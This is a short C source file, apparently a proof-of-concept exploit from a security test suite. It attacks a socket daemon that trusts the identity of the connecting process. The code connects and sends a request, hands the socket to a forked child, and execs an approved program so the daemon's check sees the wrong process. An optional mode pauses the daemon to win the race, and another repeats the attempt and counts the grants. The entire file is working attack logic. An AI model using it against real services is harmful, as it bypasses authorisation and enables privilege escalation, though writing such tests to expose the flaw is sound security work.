/*
 * Connects, asks, leaves the socket to a child that reads the answer, and executes an approved program: the process that
 * connected is an approved one by the time the daemon looks.
 *
 *   exec_after_connect SOCKET REQUEST DAEMON VICTIM         the daemon sleeps meanwhile
 *   exec_after_connect SOCKET REQUEST DAEMON VICTIM COUNT   again and again beside a daemon that is awake
 */
#include "attack.h"

static char **arguments;
static int *granted;

static void attempt(int directed)
{
    pid_t daemon = atoi(arguments[3]);
    if (directed)
        stop(daemon);
    int fd = dial(arguments[1], 0);
    say(fd, arguments[2]);
    if (fork() == 0) {
        pid_t victim = getppid();
        if (directed) {
            until_named(victim, "waiting");
            go_on(daemon);
        }
        *granted += show(fd);
        kill(victim, SIGKILL);
        _exit(0);
    }
    execl(arguments[4], arguments[4], NULL);
    fail("exec");
}

int main(int argc, char **argv)
{
    arguments = argv;
    granted = shared();
    int count = argc > 5 ? atoi(argv[5]) : 1;
    for (int i = 0; i < count; i++) {
        if (fork() == 0)
            attempt(argc == 5);
        wait(NULL);
    }
    printf("%d of %d granted\n", *granted, count);
    return 0;
}
